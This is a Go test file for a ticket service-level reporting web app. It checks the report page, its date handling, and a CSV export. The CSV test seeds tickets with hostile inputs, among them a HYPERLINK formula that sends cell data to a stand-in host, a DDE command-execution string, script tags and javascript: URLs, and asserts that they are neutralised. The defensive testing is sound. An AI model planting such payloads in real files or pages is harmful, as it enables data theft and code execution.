@@ -1,0 +1,86 @@
+package web_test
+
+import (
+	"encoding/csv"
+	"fmt"
+	"strings"
+	"testing"
+
+	"vigie/rules"
+)
+
+// Of the tickets of Monday 15:00, this month: four of the resolutions and first
+// replies are decided.
+func TestReportPage(t *testing.T) {
+	h := seeded(t)
+	for _, c := range []struct {
+		path  string
+		words []string
+	}{
+		{"/report", []string{"Sun 1 Nov 2026 to Mon 30 Nov 2026 · So far, as of Mon 30 Nov, 15:00", "66.6% of the targets were met", "2 Met", "1 Missed", "By clause", "A-2 66.6% 2 1 0 0",
+			"zendesk:1", "Portal is down", "Northwind University · Support Berlin", "First reply", "Mon 30 Nov, 10:00", "still open", "5 h business time"}},
+		{"/report?lang=fr", []string{"Du dim. 1er nov. 2026 au lun. 30 nov. 2026", "66,6 % des objectifs ont été tenus", "Par organisation", "Première réponse", "encore ouvert"}},
+		{"/report?from=2026-11-28", []string{"Sat 28 Nov 2026 to Sun 27 Dec 2026", "0% of the targets were met"}},
+		{"/report?from=2026-10-01&to=2026-10-31", []string{"– of the targets were met", "No target was met or missed in this period."}},
+		{"/report?to=2026-11-29", []string{"100% of the targets were met", "No target was missed."}},
+	} {
+		expectWords(t, h.get(t, c.path), c.words...)
+	}
+	page := h.get(t, "/report?lang=fr")
+	for _, link := range []string{`href="/report?from=2026-10-01&amp;lang=fr&amp;to=2026-10-31"`, `href="/report.csv?from=2026-11-01&amp;lang=fr&amp;to=2026-11-30"`, `href="/tickets/zendesk/1?lang=fr"`} {
+		if !strings.Contains(page, link) {
+			t.Errorf("there is no %s", link)
+		}
+	}
+	if strings.Contains(page, "from=2026-12-01") {
+		t.Error("it leads to a month that is yet to come")
+	}
+	if !strings.Contains(h.get(t, "/report?from=2026-10-01&to=2026-10-31"), "from=2026-11-01") {
+		t.Error("it doesn't lead on to this month")
+	}
+	for _, query := range []string{"from=soon", "from=2026-12-01", "from=2026-11-30&to=2026-11-29", "to=2026-10-31", "from=2026-02-30"} {
+		if a := h.ask(t, "GET", "/report?"+query, nil); a.status != 400 {
+			t.Errorf("?%s: got %d", query, a.status)
+		}
+	}
+}
+
+// Whatever stands in a ticket, its line of the CSV reads back as it was, and no cell
+// is a formula; a bare carriage return is left out.
+func TestReportCSV(t *testing.T) {
+	hostile := []string{`=HYPERLINK("http://evil.example?x="&A1,"Click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝1+1", "plain; text, with \"quotes\"\nand lines", "<script>alert(1)</script>", ""}
+	h := build(t, monday("15:00:00"))
+	for i, text := range hostile {
+		h.desk.tickets = append(h.desk.tickets, &rules.Ticket{ID: fmt.Sprint(i), Subject: text, Organization: text, Group: text, Kind: "problem", Status: rules.Open, Priority: "urgent",
+			CreatedAt: monday("09:00:00"), URL: []string{"javascript:alert(1)", "https://acme.zendesk.example/agent/tickets/1"}[i%2]})
+	}
+	h.settle(t)
+	for language, comma := range map[string]rune{"en": ',', "fr": ';'} {
+		a := h.ask(t, "GET", "/report.csv?lang="+language, nil)
+		if got := a.header.Get("Content-Disposition"); got != `attachment; filename="vigie-2026-11-01-2026-11-30.csv"` {
+			t.Errorf("it is sent as %s", got)
+		}
+		in := csv.NewReader(strings.NewReader(strings.TrimPrefix(a.body, "\ufeff")))
+		in.Comma = comma
+		rows, err := in.ReadAll()
+		if err != nil || len(rows) != 1+len(hostile) {
+			t.Fatalf("%d rows, %v", len(rows), err)
+		}
+		for i, row := range rows[1:] {
+			for k, cell := range row {
+				if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r\n") || strings.HasPrefix(cell, "＝") || strings.HasPrefix(cell, "javascript:") {
+					t.Errorf("%s: %s is %q", language, rows[0][k], cell)
+				}
+			}
+			for _, k := range []int{3, 4, 5} {
+				if got, want := strings.TrimPrefix(row[k], "'"), strings.ReplaceAll(hostile[i], "\r", ""); got != want {
+					t.Errorf("%s: %s is %q, want %q", language, rows[0][k], got, want)
+				}
+			}
+		}
+	}
+	page := h.get(t, "/report")
+	if strings.Contains(page, "<script") || strings.Contains(page, `href="javascript`) {
+		t.Error("a text is markup")
+	}
+}
